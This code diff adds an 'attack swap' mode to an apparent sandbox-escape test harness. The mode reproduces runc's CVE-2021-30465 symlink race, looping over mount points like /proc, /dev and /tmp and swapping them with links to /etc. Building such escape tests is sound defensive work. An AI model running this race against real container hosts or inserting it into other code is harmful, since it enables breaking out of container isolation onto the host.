@@ -15,6 +15,9 @@
 //                                     the first one of its path alone
 //   attack without-landlock PROGRAM…  executes it as on a kernel without Landlock: on
 //                                     the host, not in a sandbox
+//   attack swap                       swaps what is mounted on, and what is around it,
+//                                     with links until its input ends; first says which
+//                                     it could
 //   attack trace KIND [and-wait]      leaves one where the next process is, undone
 //                                     as far as that goes, and says "left"
 #define _GNU_SOURCE
@@ -27,6 +30,7 @@
 #include <linux/seccomp.h>
 #include <linux/netlink.h>
 #include <mqueue.h>
+#include <poll.h>
 #include <netinet/in.h>
 #include <sched.h>
 #include <signal.h>
@@ -62,6 +66,8 @@
 static void verdict(const char *name, int broken) {
   printf("%s %s\n", name, broken ? "BROKEN" : "held");
 }
+
+#define COUNT(array) (sizeof array / sizeof *array)
 
 // The attempt is worth something if its value is not 0.
 #define TRY(name, attempt) verdict(name, (attempt) != 0)
@@ -666,6 +672,47 @@ static void calls(void) {
   }
 }
 
+// runc's CVE-2021-30465: links come and go where mounts are made for others at that
+// moment. In each way there is: by exchange, by moving away, by removal; and what the
+// mounts are made of.
+static int swap(const char *point) {
+  char link[64], away[64];
+  snprintf(link, sizeof link, "%s.link", point);
+  snprintf(away, sizeof away, "%s.away", point);
+  int swapped = 0;
+  symlink("/etc", link);
+  if (syscall(SYS_renameat2, AT_FDCWD, link, AT_FDCWD, point, 2 /* RENAME_EXCHANGE */) == 0) {
+    syscall(SYS_renameat2, AT_FDCWD, link, AT_FDCWD, point, 2);
+    swapped = 1;
+  }
+  if (rename(point, away) == 0) {
+    symlink("/etc", point);
+    unlink(point);
+    rename(away, point);
+    swapped = 1;
+  }
+  if (rmdir(point) == 0) {
+    symlink("/etc", point);
+    unlink(point);
+    mkdir(point, 01777);
+    swapped = 1;
+  }
+  unlink(link);
+  return swapped;
+}
+
+static void swaps(void) {
+  const char *const points[] = {"/proc", "/dev", "/dev/shm", "/run", "/tmp", "/tmp/root", "/tmp/upper", "/tmp/work",
+                                "/var", "/var/tmp"};
+  struct pollfd input = {0, POLLIN, 0};
+  for (size_t at = 5; at < 8; at++) mkdir(points[at], 0777);
+  for (size_t at = 0; at < COUNT(points); at++)
+    if (swap(points[at])) puts(points[at]);
+  puts("swapping");
+  while (poll(&input, 1, 0) == 0)
+    for (size_t at = 0; at < COUNT(points); at++) swap(points[at]);
+}
+
 #define MEETING_NAME "meet"
 #define MEETING_KEY 0x6d656574
 
@@ -803,6 +850,8 @@ int main(int count, char **arguments) {
     leave();
   } else if (!strcmp(what, "without-landlock") && count > 2) {
     return without_landlock(arguments + 2);
+  } else if (!strcmp(what, "swap")) {
+    swaps();
   } else if (!strcmp(what, "held") && count == 4) {
     held(arguments[2], atoi(arguments[3]));
   } else if (!strcmp(what, "trace") && count >= 3) {
